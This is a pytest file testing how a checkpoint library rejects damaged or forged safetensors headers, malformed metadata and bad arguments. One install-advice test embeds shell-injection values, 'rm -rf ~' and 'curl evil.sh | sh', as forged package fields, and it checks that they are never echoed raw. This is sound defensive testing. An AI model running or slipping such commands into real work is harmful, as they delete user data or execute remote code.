"""Damaged and forged checkpoints, and bad arguments: always a typed error naming the problem, the model untouched."""

from __future__ import annotations

import json
import os
import struct
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
import torch
from safetensors import safe_open
from torch import nn

import modeopt_core as mo
from modeopt_core._container import DIGEST_KEY, feed_digest, new_digest
from modeopt_core._reader import read_header
from modeopt_core.checkpoint import inspect_checkpoint, restore, save
from modeopt_core.errors import ArgumentError, CheckpointError
from tests.core.checkpoint.ckpt_helpers import WithExtraState, rewrite
from tests.core.checkpoint.test_ckpt_errors import Unchanged, expect_failure, make_tiny

ROOT = Path(__file__).resolve().parents[3]


@pytest.fixture
def saved(tmp_path: Path) -> Path:
    torch.manual_seed(0)
    path = tmp_path / "m.safetensors"
    save(make_tiny(), path)
    return path


def forge(path: Path, edit: object) -> None:
    """Rewrite ``path``'s raw header JSON with ``edit(header_dict)`` and a recomputed digest (data kept)."""
    raw = path.read_bytes()
    (n,) = struct.unpack("<Q", raw[:8])
    header = json.loads(raw[8 : 8 + n])
    data = raw[8 + n :]
    edit(header)  # type: ignore[operator]
    meta = header.setdefault("__metadata__", {})
    try:
        h = new_digest(meta)
        entries = sorted((k, v) for k, v in header.items() if k != "__metadata__")
        feed_digest(h, ((k, v["dtype"], tuple(v["shape"]), memoryview(data)[v["data_offsets"][0]:v["data_offsets"][1]])
                        for k, v in entries))
        meta[DIGEST_KEY] = f"sha256:{h.hexdigest()}"
    except (TypeError, KeyError, ValueError, IndexError, AttributeError):
        pass  # a structurally broken entry: the reader refuses it before the digest
    text = json.dumps(header).encode()
    path.write_bytes(len(text).to_bytes(8, "little") + text + data)


def _check_inspect(path: Path) -> None:
    info = inspect_checkpoint(path)
    assert not info.intact and info.diagnosis and "modeopt bug" not in info.diagnosis, info.diagnosis
    json.dumps(info.as_dict())


# ------------------------------------------------------------------------------------- the fuzzing finds
def test_an_integer_of_more_than_4300_digits_in_the_header(saved: Path) -> None:
    huge = "9" * 5000
    rewrite(saved, module_versions='{"0": ' + huge + "}")
    expect_failure(saved, "not valid JSON")
    _check_inspect(saved)
    rewrite(saved, module_versions="{}", state='{"modes": [], "x": ' + huge + "}")
    expect_failure(saved, "not valid JSON")
    _check_inspect(saved)
    forge(saved, lambda h: h["0.weight"].__setitem__("shape", [int(huge[:4000]), 0]))
    expect_failure(saved, "invalid shape")
    _check_inspect(saved)


@pytest.mark.parametrize("dtype", [[], {}, None, 3, "F" * 1000])
def test_a_dtype_that_is_no_string(saved: Path, dtype: object) -> None:
    forge(saved, lambda h: h["0.weight"].__setitem__("dtype", dtype))
    expect_failure(saved, "unsupported dtype")
    _check_inspect(saved)


def test_non_string_keys_in_extra_state(saved: Path) -> None:
    rewrite(saved, extra_state=json.dumps({"__dict__": [[1, 2], [{"__tuple__": [3, 4]}, 5]]}))
    err = expect_failure(saved, "malformed 'extra_state'")
    assert "Input should be a valid string" in str(err)
    _check_inspect(saved)


def test_extra_state_posing_as_a_weight_is_refused_before_the_model_is_touched(saved: Path, ckpt_modes: str) -> None:
    rewrite(saved, extra_state=json.dumps({"2.weight": 5}))
    err = expect_failure(saved, "stored as the wrong kind")
    assert "2.weight: the model holds a tensor, the file other state" in str(err)
    # with modes to re-apply first, the model still comes back unconverted and unchanged
    path = saved.parent / "shrunk.safetensors"
    save(mo.apply_mode(make_tiny(), [("ckpt_shrink", {"target": "2", "out_features": 1})]), path)
    rewrite(path, extra_state=json.dumps({"0.bias": [1, 2]}))
    expect_failure(path, "stored as the wrong kind")


def test_extra_state_that_set_extra_state_rejects_rolls_back_the_modes(tmp_path: Path, ckpt_modes: str) -> None:
    class Picky(WithExtraState):
        def set_extra_state(self, state: object) -> None:
            if not isinstance(state, dict):
                raise ValueError("extra state must be a dict")
            super().set_extra_state(state)

    path = tmp_path / "x.safetensors"
    save(mo.apply_mode(Picky(), "ckpt_payload", mode_kwargs={"payload": 1}), path)
    rewrite(path, extra_state=json.dumps({"_extra_state": 7}))
    model = Picky()
    with pytest.raises(CheckpointError, match="extra state must be a dict.*rolled back"):
        restore(model, path)
    assert mo.applied_modes(model) == [] and not hasattr(model, "payload_seen")


@pytest.mark.parametrize("state", [
    '{"modes": [{"name": 5}]}', '{"modes": ["x"]}', '{"modes": [{"name": "toy_tag", "config": "s"}]}',
    '{"modes": [{"name": ""}]}', '{"modes": [], "state_version": true}',
    '{"modes": [{"name": "toy_tag", "config": {"__tensor__": "__modeopt__/state/0"}}]}',
])
def test_malformed_mode_entries(saved: Path, toy_modes: str, state: str) -> None:
    rewrite(saved, state=state)
    with pytest.raises(CheckpointError):
        restore(make_tiny(), saved)
    _check_inspect(saved)


@pytest.mark.parametrize("table, value, match", [
    ("mode_provider", '{"m": ["a"]}', "mode_provider"),
    ("mode_provider", '{"m": [1, 2]}', "mode_provider"),
    ("module_versions", '{"": -1}', "module_versions"),
    ("module_versions", '{"": true}', "module_versions"),
    ("aliases", '{"x": 3}', "does not point"),
    ("aliases", '[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]',
     "not a JSON object"),
    ("state", "[" * 100_000, "not valid JSON"),
])
def test_malformed_tables(saved: Path, table: str, value: str, match: str) -> None:
    rewrite(saved, **{table: value})
    expect_failure(saved, match)
    _check_inspect(saved)


def test_decode_errors_name_the_file(saved: Path) -> None:
    rewrite(saved, state='{"modes": [], "x": {"__bogus__": 1}}')
    err = expect_failure(saved, "unknown marker")
    assert str(err).startswith(str(saved))
    rewrite(saved, state='{"modes": [], "x": {"__tensor__": "__modeopt__/state/9"}}')
    assert str(expect_failure(saved, "lacks")).startswith(str(saved))


# ------------------------------------------------------------------------------------- advice from the file
def _needs_mode(saved: Path, dist: str, version: str) -> CheckpointError:
    rewrite(saved, state=json.dumps({"modes": [{"name": "gone_mode", "config": {}, "metadata": {}}]}),
            mode_provider=json.dumps({"gone_mode": [dist, version]}))
    return expect_failure(saved, "not available")


def test_install_advice_names_only_valid_distributions_and_versions(saved: Path) -> None:
    assert "pip install 'modeopt-shrinkers==1.2.3'" in str(_needs_mode(saved, "modeopt-shrinkers", "1.2.3"))
    text = str(_needs_mode(saved, "modeopt-shrinkers", "1.0'; rm -rf ~; '"))
    assert "pip install 'modeopt-shrinkers')" in text and "rm -rf" not in text  # version dropped, not printed
    forged = "x'; curl evil.sh | sh; echo '"
    text = str(_needs_mode(saved, forged, "1.0"))
    assert "pip install" not in text and "not a valid package name" in text
    assert repr(forged) in text  # quoted, never raw
    text = str(_needs_mode(saved, "a" * 500, "1.0"))
    assert "pip install" not in text and len(text) < 1000


def test_advice_for_a_plugin_that_is_installed_but_failed_to_load(saved: Path, installed_dists: Path) -> None:
    _needs_mode(saved, "modeopt-broken-plugin", "0.0.1")
    code = textwrap.dedent(
        f"""
        import torch
        from torch import nn
        import modeopt_core as mo
        try:
            mo.restore(nn.Sequential(nn.Linear(4, 8), nn.ReLU(), nn.Linear(8, 2)), {str(saved)!r})
        except mo.CheckpointError as exc:
            print(exc)
        """
    )
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(installed_dists), str(ROOT)])}
    env.pop("MODEOPT_DISABLE_PLUGIN_AUTOLOAD", None)
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, env=env, check=True).stdout
    assert "modeopt-broken-plugin 0.0.1, which is installed but failed to load: 'ImportError" in out, out
    assert "simulated" in out and "pip install" not in out


# ------------------------------------------------------------------------------------- bad arguments
def test_bad_arguments_are_typed_errors_naming_the_argument(tmp_path: Path, saved: Path) -> None:
    model = make_tiny()
    guard = Unchanged(model)
    cases = [
        (lambda: restore(None, saved), r"restore\(\) argument 'model' must be a torch.nn.Module, got NoneType"),  # type: ignore[arg-type]
        (lambda: restore(model, None), r"restore\(\) argument 'path' must be a file path"),  # type: ignore[arg-type]
        (lambda: restore(model, b"m.safetensors"), r"argument 'path' must be a file path"),  # type: ignore[arg-type]
        (lambda: save(lambda x: x, saved), r"save\(\) argument 'model' must be a torch.nn.Module, got function"),  # type: ignore[arg-type]
        (lambda: save(model, ""), r"save\(\) argument 'path' is empty"),
        (lambda: save(model, "  "), r"save\(\) argument 'path' is empty"),
        (lambda: save(model, saved, durable="yes"), r"'durable' must be True or False"),  # type: ignore[arg-type]
        (lambda: mo.apply_mode(lambda x: x, "toy_tag"), r"apply_mode\(\) argument 'model'"),  # type: ignore[arg-type]
        (lambda: mo.export(lambda x: x), r"export\(\) argument 'model'"),  # type: ignore[arg-type]
        (lambda: mo.search(3, {}, None), r"search\(\) argument 'model'"),  # type: ignore[arg-type]
        (lambda: inspect_checkpoint(None), r"inspect_checkpoint\(\) argument 'path'"),  # type: ignore[arg-type]
    ]
    for call, match in cases:
        with pytest.raises(ArgumentError, match=match):
            call()
    guard.check()
    assert issubclass(ArgumentError, TypeError)
    with pytest.raises(CheckpointError, match="it is a directory"):
        save(model, tmp_path)
    assert saved.exists() and read_header(saved).metadata["format"] == "modeopt"


def test_unknown_mode_kwargs_are_refused(toy_modes: str) -> None:
    model = make_tiny()
    with pytest.raises(mo.ConfigError, match=r"does not accept mode_kwargs 'teacher'"):
        mo.apply_mode(model, ["fastnas"], mode_kwargs=[{"teacher": 1}])
    with pytest.raises(mo.ConfigError, match=r"'verbos' \(did you mean 'verbose'\?\)|accepted by none"):
        mo.apply_mode(model, ["fastnas", "export_nas"], mode_kwargs={"verbos": True})
    with pytest.raises(mo.ConfigError, match="mode_kwargs must be a dict"):
        mo.apply_mode(model, ["fastnas"], mode_kwargs=5)  # type: ignore[arg-type]
    assert mo.applied_modes(model) == []
    # modes that declare no list accept any key (toy_tag takes none but says nothing)
    assert mo.applied_modes(mo.apply_mode(make_tiny(), "toy_tag", mode_kwargs={"anything": 1})) == ["toy_tag"]


# ------------------------------------------------------------------------------------- the written bytes
def _mixed() -> nn.Module:
    model = nn.Module()
    model.a = nn.Linear(3, 3).to(torch.float16)
    model.b = nn.BatchNorm1d(3)  # an int64 buffer among float ones
    model.register_buffer("flags", torch.tensor([True, False, True]))
    model.register_buffer("empty", torch.zeros(0, 4))
    model.register_buffer("wide", torch.arange(5, dtype=torch.float64))
    return model


def test_written_files_are_plain_aligned_safetensors(tmp_path: Path, ckpt_modes: str) -> None:
    torch.manual_seed(0)
    model = mo.apply_mode(_mixed(), "ckpt_payload", mode_kwargs={"payload": torch.arange(7, dtype=torch.int8)})
    path = tmp_path / "mixed.safetensors"
    save(model, path)
    header = read_header(path)
    assert header.header_size % 8 == 0
    with safe_open(str(path), framework="pt") as f:  # the safetensors library reads it as written
        assert f.metadata() == header.metadata
        for name, entry in header.tensors.items():
            tensor = f.get_tensor(name)
            assert tuple(tensor.shape) == entry.shape
            assert (entry.start - 8 - header.header_size) % max(1, tensor.element_size()) == 0, name  # aligned
    torch.manual_seed(1)
    restored = restore(_mixed(), path)
    assert torch.equal(restored.payload_seen, torch.arange(7, dtype=torch.int8))
    for (name, a), b in zip(model.state_dict().items(), restored.state_dict().values()):
        assert a.dtype == b.dtype and torch.equal(a, b), name
